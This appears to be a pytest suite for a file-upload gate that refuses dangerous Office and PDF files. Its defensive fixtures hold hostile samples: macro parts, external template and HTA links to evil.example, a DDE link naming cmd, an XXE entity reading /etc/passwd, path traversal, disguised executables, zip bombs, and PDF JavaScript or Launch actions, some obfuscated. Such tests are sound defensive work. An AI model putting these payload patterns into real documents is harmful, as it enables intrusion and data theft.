"""What Office files and PDFs may not carry; asked of the rules directly, as the child asks them."""

from __future__ import annotations

import io
import zipfile

import pytest

from app.gate.child import examine
from app.gate.kinds import Refused
from app.gate.sentences import SENTENCES
from tests.app.gate import samples
from tests.app.gate.samples import office, pdf, relation

RELS = "word/_rels/document.xml.rels"
CHART = "word/embeddings/Microsoft_Excel_Sheet1.xlsx"


def refused(content: bytes, extension: str) -> str:
    with pytest.raises(Refused) as refusal:
        examine(content, extension)
    assert refusal.value.code in SENTENCES
    return refusal.value.code


def zipped(*parts: tuple[str, bytes], comment: bytes = b"") -> bytes:
    file = io.BytesIO(office())
    with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts:
            package.writestr(name, content)
        package.comment = comment
    return file.getvalue()


@pytest.mark.parametrize(
    "parts",
    [
        {RELS: relation("hyperlink", "https://example.com/a?b=1&amp;c=2")},
        {RELS: relation("attachedTemplate", "file:///C:\\Users\\wang\\Templates\\Normal.dotm")},
        {RELS: relation("image", "media/image1.png", external=False), "word/media/image1.png": samples.picture()},
        {CHART: office("xlsx")},
        {"word/media/image2.emz": b"\x1f\x8b\x08\0"},
        {"docProps/app.xml": "<?xml version='1.0' encoding='UTF-16'?><a>文</a>".encode("utf-16")},
        {"word/printerSettings1.bin": bytes(range(256))},
    ],
)
def test_what_honest_documents_carry_passes(parts: dict[str, str | bytes]) -> None:
    assert examine(office(parts=parts), "docx") == ("docx", None)


@pytest.mark.parametrize(
    ("parts", "code"),
    [
        ({"word/vbaProject.bin": b"x"}, "macro"),
        ({"xl/macrosheets/sheet1.xml": "<a/>"}, "macro"),
        ({"word/activeX/activeX1.xml": "<a/>"}, "macro"),
        ({RELS: relation("attachedTemplate", "https://evil.example/t.dotm")}, "outside"),
        ({RELS: relation("attachedTemplate", "file://server/share/t.dotm")}, "outside"),
        ({RELS: relation("image", "http://evil.example/pixel.png")}, "outside"),
        ({RELS: relation("oleObject", "http://evil.example/a.hta")}, "outside"),
        ({"xl/externalLinks/externalLink1.xml": '<ddeLink ddeService="cmd"/>'}, "outside"),
        ({"word/document.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}, "damaged"),
        ({"word/document.xml": "<!DOCTYPE a><a/>".encode("utf-16")}, "damaged"),
        ({"word/document.xml": "<!DOCTYPE a><a/>".encode("utf-16-be")}, "damaged"),
        ({"word/document.xml": '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a>'}, "damaged"),
        ({"word/odd.part": "\ufeff <!DOCTYPE a><a/>"}, "damaged"),
        ({RELS: "<Relationships"}, "damaged"),
        ({"../evil.xml": "<a/>"}, "damaged"),
        ({"WORD/document.xml": "<a/>"}, "damaged"),
        ({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}, "embedded"),
        ({"word/media/image1.png": b"MZ\x90\0"}, "embedded"),
        ({"word/media/photos.zip": office()}, "embedded"),
        ({"word/afchunk.mht": b"x"}, "embedded"),
        ({CHART: office("xlsx", {"xl/vbaProject.bin": b"x"})}, "macro"),
        ({CHART: office("xlsx", {"xl/embeddings/again.xlsx": office("xlsx")})}, "embedded"),
        ({"[Content_Types].xml": "<Types/>"}, "mismatch"),
        ({"[Content_Types].xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}, "macro"),
    ],
)
def test_what_acts_fetches_or_hides_is_refused(parts: dict[str, str | bytes], code: str) -> None:
    assert refused(office(parts=parts), "docx") == code


def test_a_zip_without_a_table_of_contents_is_no_document() -> None:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as package:
        package.writestr("word/document.xml", "<a/>")
    assert refused(file.getvalue(), "docx") == "mismatch"


def test_a_workbook_is_no_document() -> None:
    assert refused(office("xlsx"), "docx") == "mismatch"


def test_a_zip_bomb_is_counted_while_it_is_unpacked() -> None:
    bomb = zipped(("word/media/bomb.dat", b"\0" * (201 * 1024 * 1024)))
    assert len(bomb) < 1_000_000
    assert refused(bomb, "docx") == "unpacked"


def test_two_thousand_parts_are_enough() -> None:
    assert refused(zipped(*((f"word/p{number}.bin", b"") for number in range(2000))), "docx") == "unpacked"


def test_bytes_before_or_behind_the_zip_could_be_another_file() -> None:
    for content in (office() + b"<script>", zipped(comment=b"<script>"), b"PK\x03\x04junk" + office()):
        assert refused(content, "docx") == "damaged"


def test_a_locked_entry_cannot_be_examined() -> None:
    content = bytearray(office())
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(mark) + flags] |= 1
    assert refused(bytes(content), "docx") == "locked"


def test_a_changed_byte_inside_is_noticed() -> None:
    content = bytearray(office(parts={"word/media/a.png": os_noise()}))
    content[content.index(b"word/media/a.png") + 60] ^= 0xFF
    assert refused(bytes(content), "docx") == "damaged"


def os_noise() -> bytes:
    return samples.picture("png", (50, 50)) + bytes(range(256)) * 4


@pytest.mark.parametrize(
    "content",
    [
        pdf(),
        b"\xef\xbb\xbf" + pdf(),
        pdf() + b"\0" * 300,
        pdf(extra=b"/OpenAction [3 0 R /Fit] /Names <</Dests 4 0 R>>"),
        pdf(stream=b"1 0 0 1 50 50 cm (JavaScript, Launch) Tj"),
    ],
)
def test_an_honest_pdf_passes(content: bytes) -> None:
    assert examine(content, "pdf") == ("pdf", None)


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (pdf(extra=b"/OpenAction <</S /JavaScript /JS (app.alert(1))>>"), "pdf_active"),
        (pdf(extra=b"/OpenAction <</S /J#61va#53cript /JS (app.alert(1))>>"), "pdf_active"),
        (pdf(extra=b"/OpenAction <</S /Launch /F (cmd.exe)>>"), "pdf_active"),
        (pdf(extra=b"/Names <</EmbeddedFiles 9 0 R>>"), "pdf_active"),
        (pdf(stream=b"8 0 9 20 <</S /JavaScript>>"), "pdf_active"),
        (pdf(stream=b"% x\n8 0 9 20 " + b" " * 9000 + b"<</S /J#61vaScript>>"), "pdf_active"),
        (pdf(trailer=b"/Encrypt 7 0 R"), "pdf_locked"),
        (pdf(stream=b"1 " + b"0" * (201 * 1024 * 1024)), "unpacked"),
        (b"%PDF-1.7\n%%EOF", "damaged"),
        (b"GIF89a" + pdf(), "mismatch"),
    ],
)
def test_a_pdf_that_acts_hides_or_is_locked_is_refused(content: bytes, code: str) -> None:
    assert refused(content, "pdf") == code
